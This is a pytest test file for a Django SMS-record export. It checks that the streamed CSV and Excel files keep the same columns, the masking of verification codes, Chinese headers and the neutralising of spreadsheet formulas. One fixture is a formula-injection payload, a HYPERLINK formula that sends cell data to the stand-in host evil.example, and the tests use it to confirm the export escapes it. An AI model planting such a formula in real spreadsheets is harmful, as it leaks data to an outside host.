"""The export files byte for byte (CSV) and cell for cell (XLSX), for a fixed set of records.

Pinned on the tablib exports (django-tables2's ``TableExport``) before they were streamed, so the
streamed ones can be seen to write the same files: the columns, headers and order, the times in
China time, the status as its word, codes masked, the explanation column, and every cell that a
spreadsheet would read as a formula after a quote.
"""

from __future__ import annotations

import io
from datetime import datetime, time, timedelta

import openpyxl
import pytest
from django.utils import timezone, translation

from deliveries.models import Fetch, SmsRecord, Status
from dysms.values import CHINA_TZ
from dysms_sandbox import reserved

pytestmark = pytest.mark.django_db

PHONE = "13900000077"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
CODE_TEXT = "【云雀科技】验证码482913，您正在登录云雀账号，5分钟内有效。"
BILL = '+86 提醒：您的账单已出, 请查收 "本月"\n第二行'


def at(day, hour: int, minute: int, second: int) -> datetime:
    return datetime.combine(day, time(hour, minute, second), tzinfo=CHINA_TZ)


@pytest.fixture
def stored(past_day):
    """One final day of six records: one of each kind of cell an export must get right."""
    fetch = Fetch.objects.create(
        phone=PHONE,
        day=past_day,
        biz_id="",
        fetched_at=timezone.now(),
        total_count=6,
        stored_count=6,
    )
    waiting_since = timezone.now() - timedelta(hours=30)
    # In upstream's order, newest send first: the waiting one was sent last.
    rows = [
        (Status.WAITING, "", "SMS_4", "-5 积分已到账", "", None, None),
        (Status.DELIVERED, "DELIVERED", "SMS_100000001", HYPERLINK, "-order-7", (10, 0, 0), 5),
        (Status.DELIVERED, "DELIVERED", "SMS_271935402", CODE_TEXT, "", (9, 30, 0), 3),
        (Status.FAILED, "MOBILE_NOT_ON_SERVICE", "@SMS_3", BILL, "+1", (9, 0, 0), 40),
        (Status.DELIVERED, "DELIVERED", "SMS_5", "", "order-9", (8, 0, 0), 1),
    ]
    for position, (status, err_code, template, content, out_id, sent, took) in enumerate(rows):
        send_time = at(past_day, *sent) if sent else waiting_since
        SmsRecord.objects.create(
            fetch=fetch,
            phone=PHONE,
            send_day=past_day,
            position=position,
            status=status,
            err_code=err_code,
            template_code=template,
            content=content,
            out_id=out_id,
            send_time=send_time,
            receive_time=send_time + timedelta(seconds=took) if took else None,
        )
    return waiting_since


HEADER = "Sent,Received,Status,Error code,Template,Content,OutId,What it means\r\n"
OUT_OF_SERVICE = (
    "The number is out of service (suspended, unassigned, switched off or out of coverage)."
)
NO_RECEIPT = (
    "No receipt after 1\xa0day; it is unlikely to come now. Ask the customer whether the "
    "message arrived."
)


def csv_lines(day, waiting_since) -> list[str]:
    """The rows of the CSV export in the store's order, as the tablib export wrote them."""
    waited = timezone.localtime(waiting_since).strftime("%Y-%m-%d %H:%M:%S")
    return [
        f"{waited},,Waiting,,SMS_4,'-5 积分已到账,,{NO_RECEIPT}\r\n",
        f"{day} 10:00:00,{day} 10:00:05,Delivered,DELIVERED,SMS_100000001,"
        '"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",\'-order-7,\r\n',
        f"{day} 09:30:00,{day} 09:30:03,Delivered,DELIVERED,SMS_271935402,"
        "【云雀科技】验证码******，您正在登录云雀账号，5分钟内有效。,,\r\n",
        f"{day} 09:00:00,{day} 09:00:40,Failed,MOBILE_NOT_ON_SERVICE,'@SMS_3,"
        '"\'+86 提醒：您的账单已出, 请查收 ""本月""\n第二行",\'+1,'
        f'"{OUT_OF_SERVICE}"\r\n',
        f"{day} 08:00:00,{day} 08:00:01,Delivered,DELIVERED,SMS_5,,order-9,\r\n",
    ]


def export(client, day, export_format: str, **params):
    return client.get(
        "/", {"phone": PHONE, "date": day.isoformat(), "_export": export_format, **params}
    )


def body(response) -> bytes:
    """The whole file, whether the response was built in one piece or streamed."""
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def test_the_csv_export_is_the_same_file_byte_for_byte(staff, upstream, past_day, stored):
    response = export(staff, past_day, "csv")

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    expected = f'attachment; filename="sms-{PHONE}-{past_day:%Y%m%d}.csv"'
    assert response["Content-Disposition"] == expected
    lines = csv_lines(past_day, stored)
    assert body(response) == (HEADER + "".join(lines)).encode()
    assert upstream.calls == []


@pytest.mark.parametrize(
    ("sort", "order"),
    [("status", [0, 3, 1, 2, 4]), ("-send_time", [0, 1, 2, 3, 4]), ("template", [0, 1, 2, 3, 4])],
)
def test_the_csv_export_follows_the_pages_sort(staff, upstream, past_day, stored, sort, order):
    lines = csv_lines(past_day, stored)

    response = export(staff, past_day, "csv", sort=sort)

    assert body(response) == (HEADER + "".join(lines[n] for n in order)).encode()


def test_with_masking_off_the_csv_export_holds_the_code(
    staff, upstream, past_day, stored, settings
):
    settings.MASK_VERIFICATION_CODES = False

    text = body(export(staff, past_day, "csv")).decode()

    assert f"SMS_271935402,{CODE_TEXT},," in text


@pytest.mark.chinese
def test_the_csv_export_speaks_chinese(staff, upstream, past_day, stored):
    text = body(export(staff, past_day, "csv")).decode()

    header, *rows = text.split("\r\n")
    assert header == "发送时间,接收时间,状态,错误码,模板,内容,OutId,含义"
    assert [row.split(",")[2] for row in rows if row[:4].isdigit()] == [
        "等待回执",
        "已送达",
        "已送达",
        "失败",
        "已送达",
    ]
    assert rows[3].endswith(",号码无法接通（停机、空号、关机或不在服务区）。")
    assert rows[0].endswith(",已过 1\xa0日 仍无回执，大概率不会再返回。请向客户确认是否收到短信。")


def test_the_excel_export_holds_the_same_cells(staff, upstream, past_day, stored):
    waited = timezone.localtime(stored).strftime("%Y-%m-%d %H:%M:%S")
    day = past_day.isoformat()

    response = export(staff, past_day, "xlsx")

    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    expected = f'attachment; filename="sms-{PHONE}-{past_day:%Y%m%d}.xlsx"'
    assert response["Content-Disposition"] == expected
    book = openpyxl.load_workbook(io.BytesIO(body(response)))
    sheet = book.active
    assert (book.sheetnames, sheet.title, sheet.freeze_panes) == (
        ["Sms Records"],
        "Sms Records",
        "A2",
    )
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values == [
        [
            "Sent",
            "Received",
            "Status",
            "Error code",
            "Template",
            "Content",
            "OutId",
            "What it means",
        ],
        [waited, None, "Waiting", None, "SMS_4", "'-5 积分已到账", None, NO_RECEIPT],
        [
            f"{day} 10:00:00",
            f"{day} 10:00:05",
            "Delivered",
            "DELIVERED",
            "SMS_100000001",
            "'" + HYPERLINK,
            "'-order-7",
            None,
        ],
        [
            f"{day} 09:30:00",
            f"{day} 09:30:03",
            "Delivered",
            "DELIVERED",
            "SMS_271935402",
            "【云雀科技】验证码******，您正在登录云雀账号，5分钟内有效。",
            None,
            None,
        ],
        [
            f"{day} 09:00:00",
            f"{day} 09:00:40",
            "Failed",
            "MOBILE_NOT_ON_SERVICE",
            "'@SMS_3",
            "'" + BILL,
            "'+1",
            OUT_OF_SERVICE,
        ],
        [
            f"{day} 08:00:00",
            f"{day} 08:00:01",
            "Delivered",
            "DELIVERED",
            "SMS_5",
            None,
            "order-9",
            None,
        ],
    ]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells if cell.value is not None} == {"s"}
    assert all(cell.font.b for cell in sheet[1])
    assert [cell.coordinate for cell in cells if cell.alignment.wrap_text] == ["F5"]


# Since the exports are streamed.


def test_a_long_csv_export_is_sent_in_pieces_as_it_is_read(staff, upstream, past_day):
    first = past_day - timedelta(days=1)
    search = {
        "phone": reserved.HUNDREDS,
        "date": first.isoformat(),
        "date_to": past_day.isoformat(),
    }

    response = staff.get("/", {**search, "_export": "csv"})

    pieces = list(response.streaming_content)
    assert len(pieces) > 1
    assert b"".join(pieces).count(b"\r\n") == 1 + 2 * 420


def test_the_stream_keeps_the_language_of_the_request(staff, upstream, past_day, stored):
    response = export(staff, past_day, "csv")

    with translation.override("zh-hans"):  # whatever the server's thread speaks meanwhile
        text = body(response).decode()

    assert OUT_OF_SERVICE in text and NO_RECEIPT in text


def test_a_control_character_from_upstream_does_not_break_the_excel_export(
    staff, upstream, past_day, stored
):
    SmsRecord.objects.filter(position=0).update(
        content="escape \x1b[31m", content_masked="escape \x1b[31m"
    )

    csv_export = export(staff, past_day, "csv")
    xlsx_export = export(staff, past_day, "xlsx")

    assert "escape \x1b[31m" in body(csv_export).decode()
    sheet = openpyxl.load_workbook(io.BytesIO(body(xlsx_export))).active
    assert sheet["F2"].value == "escape \ufffd[31m"
